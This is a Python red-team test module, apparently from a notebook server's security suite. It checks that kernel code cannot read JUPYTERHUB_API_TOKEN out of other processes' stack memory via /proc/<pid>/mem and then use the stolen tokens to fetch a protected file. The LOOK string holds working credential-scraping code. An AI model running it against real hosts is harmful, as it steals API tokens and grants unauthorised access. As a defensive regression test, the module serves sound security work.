from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

LOOK = """
import os
found = set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        areas = [line.split() for line in open(f"/proc/{pid}/maps") if line.endswith("[stack]\\n")]
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for area in areas if int(pid) != os.getpid() else ():
        first, last = (int(end, 16) for end in area[0].split("-"))
        memory.seek(first)
        held = memory.read(last - first).split(bytes(1))
        found |= {line.partition(b"=")[2].decode() for line in held if line.startswith(b"JUPYTERHUB_API_TOKEN=")}
print(*found)
"""


@channel(
    "server-memory",
    "The server debugged by a kernel: its token, out of its memory",
    direction="reach",
    closed_by="engine and desk are two containers; no capability, no new privileges",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.keep("debugged.bin")
    return b"\n".join(
        site.fetch_with(token, "files/debugged.bin") or b"" for token in site.said(LOOK).split()[:3]
    )
